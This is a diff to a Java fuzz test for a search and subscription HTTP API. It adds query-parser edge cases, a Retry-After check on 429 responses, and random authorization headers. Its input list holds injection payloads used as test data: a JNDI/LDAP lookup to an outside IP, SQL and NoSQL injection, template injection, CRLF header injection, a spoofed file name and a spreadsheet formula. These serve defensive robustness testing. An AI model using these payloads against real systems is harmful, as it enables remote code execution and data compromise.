@@ -47,7 +47,10 @@ class FuzzTest {
             "true", "TRUE", "relevance", "published", "csv", "jsonl", "day", "week", "month", "start", "0:1,1:2",
             "0:-5", "99999:1", "a:b", "0:9223372036854775807", "cDF8OTIyMzM3MjAzNjg1NDc3NTgwN3x4", "cjF8MTIzfDQ1Nnx6",
             "a".repeat(300), "a".repeat(5000), "\"".repeat(50), "KH,".repeat(60), "{\"$ne\":1}", "' OR 1=1 --",
-            "${jndi:ldap://198.51.100.1/a}", "#{7*7}", "\r\nX-Injected: 1", "\u202Egnp.exe", "\uFEFF", "ſ", "İ");
+            "${jndi:ldap://198.51.100.1/a}", "#{7*7}", "\r\nX-Injected: 1", "\u202Egnp.exe", "\uFEFF", "ſ", "İ",
+            // query-parser operators at and past their limits
+            "a*", "ab*", "abc*", "*abc", "?abc", "abc~", "abc~1", "abc~2", "\"a b\"~10", "\"a b\"~11", "a* b* c*", "101",
+            "\u0001\uD800", "=HYPERLINK(\"x\")");
 
     static final Map<String, List<String>> QUERY_ENDPOINTS = new LinkedHashMap<>();
 
@@ -82,7 +85,8 @@ class FuzzTest {
         Fixtures.awaitReady();
         Random random = new Random(20261126);
         List<String> failures = new ArrayList<>();
-        for (int i = 0; i < REQUESTS; i++) {
+        int requests = requests();
+        for (int i = 0; i < requests; i++) {
             HttpRequest request = switch (i % 10) {
                 case 0, 1, 2, 3 -> queryRequest(random);
                 case 4 -> pathRequest(random);
@@ -107,7 +111,9 @@ class FuzzTest {
             // 414 above 64 KB of request line and 431 above 8 KB of headers: the HTTP server's own limits answer
             // before any application code runs; below them every error is the application's problem+json
             boolean transportLimit = (status == 414 && request.uri().toString().length() > 64 * 1024) || status == 431;
-            if (status >= 500 || (status >= 400 && !transportLimit && !type.startsWith("application/problem+json"))) {
+            boolean retryAfterMissing = status == 429 && r.headers().firstValue("Retry-After").isEmpty();
+            if (status >= 500 || retryAfterMissing
+                    || (status >= 400 && !transportLimit && !type.startsWith("application/problem+json"))) {
                 failures.add(request.method() + " " + request.uri() + " -> " + status + " " + type + ": "
                         + new String(body, StandardCharsets.UTF_8));
             }
@@ -119,10 +125,19 @@ class FuzzTest {
             http.send(HttpRequest.newBuilder(uri("/api/v1/subscriptions/" + id)).header("Authorization", KEY).DELETE().build(),
                     HttpResponse.BodyHandlers.discarding());
         }
-        System.out.println("fuzz: " + REQUESTS + " requests; method path status -> count: " + statuses);
+        System.out.println(getClass().getSimpleName() + ": " + requests + " requests; method path status -> count: " + statuses);
         assertEquals(List.of(), failures.stream().limit(20).toList(), failures.size() + " requests failed");
         assertTrue(statuses.keySet().stream().anyMatch(k -> k.endsWith(" 200")), "some requests were valid");
         assertTrue(statuses.keySet().stream().anyMatch(k -> k.endsWith(" 400")), "many were not");
+        checkStatuses(statuses);
+    }
+
+    int requests() {
+        return REQUESTS;
+    }
+
+    /** Further expectations of a subclass about the mix of answers. */
+    void checkStatuses(Map<String, Integer> statuses) {
     }
 
     private URI uri(String pathAndQuery) {
@@ -151,7 +166,11 @@ class FuzzTest {
         if (path.endsWith("/export") && random.nextInt(3) > 0) {
             q.append("&q=").append(enc(Fixtures.uniqueWord())); // keep most exports small
         }
-        return HttpRequest.newBuilder(uri(path + q)).timeout(Duration.ofSeconds(60)).GET().build();
+        HttpRequest.Builder b = HttpRequest.newBuilder(uri(path + q)).timeout(Duration.ofSeconds(60)).GET();
+        if (random.nextInt(3) == 0) {
+            b.header("Authorization", random.nextBoolean() ? KEY : "Bearer test-key-2"); // own buckets, own subscriptions
+        }
+        return b.build();
     }
 
     private HttpRequest streamRequest(Random random) {
